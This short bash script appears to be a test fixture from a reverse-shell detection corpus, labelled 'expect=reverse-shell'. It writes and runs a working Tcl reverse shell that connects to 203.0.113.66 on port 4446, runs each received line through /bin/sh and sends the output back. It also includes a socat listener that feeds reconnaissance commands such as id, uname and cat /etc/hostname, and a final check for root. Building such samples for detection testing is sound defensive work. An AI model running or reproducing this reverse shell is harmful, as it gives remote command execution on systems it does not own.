#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=reverse-shell half=report tool=tclsh,dash far=out ready=out:4446 seconds=30 parts=dns
# A line of Tcl calls back, has a shell do each line that comes and says what it said.
# shellcheck disable=SC2016 # Tcl has its own variables
if [ "$1" = out ]; then (sleep 5; for line in id "ls -l / | head -5" "uname -a" "df -h /" "cat /etc/hostname" "ps ax | head -4"; do echo "$line"; sleep 3; done) | timeout 34 socat -t 2 - TCP-LISTEN:4446,bind=203.0.113.66,reuseaddr >"$LAB/heard"; exit 0; fi
echo 'set s [socket 203.0.113.66 4446]; while {[gets $s c] >= 0} { catch {exec /bin/sh -c $c} r; puts $s $r; flush $s }' >"$LAB/t.tcl"
timeout 28 tclsh "$LAB/t.tcl"; grep -q uid=0 "$LAB/heard"
